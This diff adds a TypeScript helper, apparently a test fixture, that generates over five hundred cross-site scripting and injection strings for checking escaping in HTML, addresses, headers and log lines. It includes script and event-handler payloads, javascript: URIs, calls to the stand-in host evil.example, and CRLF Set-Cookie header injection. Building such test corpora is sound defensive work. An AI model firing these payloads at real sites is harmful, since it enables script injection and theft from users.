@@ -1,0 +1,50 @@
+/** At least five hundred strings that break out of HTML, addresses, headers or log lines where nobody escapes (T09). */
+export function hostileTexts(): readonly string[] {
+  const actions = ["alert(1)", "fetch('//evil.example')", "document.title='owned'"];
+  const shapes: readonly ((action: string) => string)[] = [
+    (a) => `<script>${a}</script>`,
+    (a) => `<ScRiPt>${a}</ScRiPt>`,
+    (a) => `<script\n>${a}</script\n>`,
+    (a) => `<script src="data:text/javascript,${a}"></script>`,
+    (a) => `<img src=x onerror=${a}>`,
+    (a) => `<img/src=x/onerror=${a}>`,
+    (a) => `<svg onload=${a}>`,
+    (a) => `<svg><script>${a}</script></svg>`,
+    (a) => `<svg><animate onbegin=${a} attributeName=x dur=1s>`,
+    (a) => `<body onload=${a}>`,
+    (a) => `<details open ontoggle=${a}>`,
+    (a) => `<iframe srcdoc="<script>${a}</script>">`,
+    (a) => `<iframe src="javascript:${a}">`,
+    (a) => `<object data="javascript:${a}">`,
+    (a) => `<math><mtext></p><img src=x onerror=${a}></mtext></math>`,
+    (a) => `<form action="javascript:${a}"><button>x</button></form>`,
+    (a) => `<a href="javascript:${a}">x</a>`,
+    (a) => `<a href="java&#9;script:${a}">x</a>`,
+    (a) => `<base href="//evil.example/"><b>${a}</b>`,
+    (a) => `<meta http-equiv="refresh" content="0;url=javascript:${a}">`,
+    (a) => `<link rel=stylesheet href="//evil.example/${a}">`,
+    (a) => `<style>@import '//evil.example/${a}'</style>`,
+    (a) => `<input autofocus onfocus=${a}>`,
+    (a) => `<template><img src=x onerror=${a}></template>`,
+    (a) => `javascript:${a}`,
+    (a) => `\u0001javascript:${a}`,
+    (a) => `data:text/html,<script>${a}</script>`,
+    (a) => `//evil.example/${a}`,
+    (a) => `0;url=javascript:${a}`,
+    (a) => `\r\nSet-Cookie: a=${a}`,
+    (a) => `\u001b[2J${a}`,
+    (a) => `\u202e${a}\u2066`,
+    (a) => `&lt;script&gt;${a}&lt;/script&gt;`,
+    (a) => `%3Cscript%3E${a}%3C/script%3E`,
+    (a) => `\${${a}}{{${a}}}<%=${a}%>`,
+  ];
+  const wraps: readonly ((text: string) => string)[] = [
+    (t) => t,
+    (t) => `">${t}`,
+    (t) => `'>${t}`,
+    (t) => `" autofocus onfocus="x" ${t}`,
+    (t) => `</title></textarea></style></script>${t}`,
+    (t) => `--><!--${t}`,
+  ];
+  return actions.flatMap((action) => shapes.flatMap((shape) => wraps.map((wrap) => wrap(shape(action)))));
+}
